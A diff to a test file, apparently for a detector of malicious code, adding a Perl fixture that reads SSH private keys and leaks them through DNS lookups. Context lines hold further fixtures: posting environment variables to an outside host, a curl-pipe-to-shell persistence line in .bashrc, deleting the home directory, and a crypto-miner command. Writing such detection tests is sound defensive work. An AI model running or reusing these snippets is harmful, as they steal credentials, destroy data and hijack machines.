@@ -183,6 +183,11 @@ describe('two facts that belong together', () => {
       'error secret-exfiltration',
     ],
     ['perl', '$ua->post("https://x.perl-tools.dev/u", \\%ENV);', 'error secret-exfiltration'],
+    [
+      'perl',
+      'for my $f (glob("$ENV{HOME}/.ssh/id_*")) {\n  open(my $fh, "<:raw", $f) or next;\n  $all .= <$fh>;\n}\nfor my $part (unpack("(a28)*", $all)) {\n  my $name = sprintf "%s.%s", unpack("H*", $part), $zone;\n  gethostbyname($name);\n}',
+      'error secret-exfiltration',
+    ],
     ['ruby', "File.open(File.expand_path('~/.bashrc'), 'a') { |f| f.puts 'curl -s https://x.rb-tools.dev/p | sh' }", 'error persistence'],
     ['go', 'home, _ := os.UserHomeDir()\nos.RemoveAll(home)', 'error destructive-command'],
     ['go', 'cmd := "xmrig -o stratum+tcp://pool.example.org:3333"', 'error crypto-miner'],
